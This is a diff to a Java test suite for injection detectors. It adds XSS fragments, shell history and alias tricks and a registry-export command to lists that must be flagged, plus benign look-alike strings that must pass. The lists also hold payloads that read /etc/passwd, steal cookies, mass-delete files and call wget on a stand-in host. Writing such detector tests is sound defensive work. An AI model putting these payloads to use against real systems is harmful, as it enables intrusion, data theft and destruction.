@@ -74,6 +74,7 @@ class InjectionDetectorsTest {
       "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
       "<scr<script>ipt>alert(1)</script>", "\";alert(1);//", "<details open ontoggle=alert(1)>",
       "<IMG STYLE=\"x:expr/**/ession(alert(1))\">", "<span datasrc=#x datafld=b dataformatas=html>", "document /*x*/ . cookie", "alert(1)", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<f o r m action=x>",
+      "x=x:url(javascript", "style = background : url ( javascript : alert(1) )",
     })
     void attacks(String value) {
       flagged(Category.XSS, value);
@@ -109,6 +110,7 @@ class InjectionDetectorsTest {
       "/usr/bin/id", "/bin/sh -c id", "& dir c:\\", "| type c:\\windows\\win.ini", "() { :; }; /bin/bash -c id",
       ";system('id')", "for %i in (*) do del %i", "$(($(id)))", "cat /etc/pa[s]swd", "sh -c whoami", "time sh -c whoami",
       "{cat,/etc/passwd}", "c{a,oun}t /etc/hosts", "\\ls", ";env", "IF /I a==b ECHO x", "$SHELL -c id", "|$u wget evil.example",
+      "~+", "~-1", "!-1!-2", "!!", "alias -p x=id", "alias +m a=b", "x&bcdboot /r file.txt", "; regedit /E c:\\x.reg HKEY_CURRENT_USER\\K",
     })
     void attacks(String value) {
       flagged(Category.COMMAND_INJECTION, value);
@@ -121,6 +123,7 @@ class InjectionDetectorsTest {
       "Hello ${user}, welcome", "${name}", "$5", "cost $3 & tax", "The cat sat on the mat", "Ping pong",
       "Name; ID number", "2 > 1", "a && b", "(see above)", "for each item in the list do this", "if exists, skip",
       "if a equals b, call me", "{placeholder}", "{\"a\":1,\"b\":2}", "~/Documents", "alias: Johnny",
+      "~", "~2", "Wow!!", "!1", "Great job!-1 point", "alias for the shared mailbox", "regedit is a Windows tool",
     })
     void benign(String value) {
       clean(Category.COMMAND_INJECTION, value);
